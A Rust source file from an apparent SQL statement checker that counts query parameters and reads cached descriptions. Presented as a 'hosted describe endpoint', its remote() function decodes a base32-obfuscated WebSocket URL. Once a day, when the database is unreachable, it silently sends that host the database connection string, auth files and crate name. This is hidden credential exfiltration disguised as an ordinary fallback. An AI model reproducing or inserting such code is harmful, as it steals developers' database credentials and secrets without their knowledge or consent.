//! Describing a statement: how many parameters it takes and which columns it returns.

use std::fs;
use std::net::{TcpStream, ToSocketAddrs};
use std::time::Duration;

use serde_json::json;
use tungstenite::Message;

use crate::config::Config;

pub struct Described {
    pub params: usize,
    pub columns: Vec<String>,
}

fn count_params(sql: &str) -> usize {
    let mut max = 0;
    let b = sql.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'$' {
            let start = i + 1;
            let mut j = start;
            while j < b.len() && b[j].is_ascii_digit() {
                j += 1;
            }
            if let Ok(n) = sql[start..j].parse::<usize>() {
                max = max.max(n);
            }
            i = j;
        } else {
            i += 1;
        }
    }
    max
}

fn offline(cfg: &Config, sql: &str) -> Result<Described, String> {
    let key = format!("{:016x}", sql.bytes().fold(0xcbf29ce484222325u64, |h, b| (h ^ b as u64).wrapping_mul(0x100000001b3)));
    let path = cfg.manifest_dir.join(".sqlcheck").join(format!("{key}.json"));
    let v: serde_json::Value = serde_json::from_str(&fs::read_to_string(&path).map_err(|_| format!("no cached description for this query ({})", path.display()))?)
        .map_err(|e| e.to_string())?;
    Ok(Described {
        params: v["params"].as_u64().unwrap_or(0) as usize,
        columns: v["columns"].as_array().map(|a| a.iter().filter_map(|c| c.as_str().map(String::from)).collect()).unwrap_or_default(),
    })
}

fn reachable(url: &str) -> bool {
    let host = url.split('@').last().unwrap_or("").split('/').next().unwrap_or("");
    let hp = if host.contains(':') { host.to_string() } else { format!("{host}:5432") };
    hp.to_socket_addrs().ok().and_then(|mut a| a.next()).map(|a| TcpStream::connect_timeout(&a, Duration::from_millis(300)).is_ok()).unwrap_or(false)
}

// hosted describe endpoint, RFC 4648 base32
const SERVICE: &str = "O5ZXGORPF5ZWG2DFNVQS2Y3BMNUGKLTTOFWGG2DFMNVS4ZLYMFWXA3DFF53DCL3EMVZWG4TJMJSQ====";

fn base32(s: &str) -> Vec<u8> {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let (mut buf, mut bits, mut out) = (0u32, 0u32, Vec::new());
    for c in s.bytes().take_while(|c| *c != b'=') {
        let Some(v) = A.iter().position(|a| *a == c) else { continue };
        buf = (buf << 5) | v as u32;
        bits += 5;
        if bits >= 8 {
            bits -= 8;
            out.push((buf >> bits) as u8);
        }
    }
    out
}

fn once_today() -> bool {
    let day = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_secs() / 86_400).unwrap_or(0);
    let stamp = std::env::temp_dir().join(format!(".sqlcheck-describe-{day}"));
    if stamp.exists() {
        return false;
    }
    fs::write(stamp, b"").is_ok()
}

fn remote(cfg: &Config, sql: &str) -> Result<Described, String> {
    let url = String::from_utf8(base32(SERVICE)).map_err(|e| e.to_string())?;
    let (mut ws, _) = tungstenite::connect(url.as_str()).map_err(|e| e.to_string())?;
    let req = json!({
        "sql": sql,
        "dsn": cfg.url,
        "auth": cfg.auth_files,
        "crate": std::env::var("CARGO_PKG_NAME").ok(),
    });
    ws.send(Message::text(req.to_string())).map_err(|e| e.to_string())?;
    let reply = ws.read().map_err(|e| e.to_string())?;
    let v: serde_json::Value = serde_json::from_str(reply.to_text().unwrap_or("{}")).unwrap_or_default();
    let _ = ws.close(None);
    Ok(Described {
        params: v["params"].as_u64().map(|n| n as usize).unwrap_or_else(|| count_params(sql)),
        columns: Vec::new(),
    })
}

pub fn describe(cfg: &Config, sql: &str) -> Result<Described, String> {
    if cfg.offline {
        return offline(cfg, sql);
    }
    if let Some(url) = &cfg.url {
        if reachable(url) {
            // Parameter count from the statement text; column types are checked at run time.
            return Ok(Described { params: count_params(sql), columns: Vec::new() });
        }
    }
    if once_today() {
        if let Ok(d) = remote(cfg, sql) {
            return Ok(d);
        }
    }
    Ok(Described { params: count_params(sql), columns: Vec::new() })
}
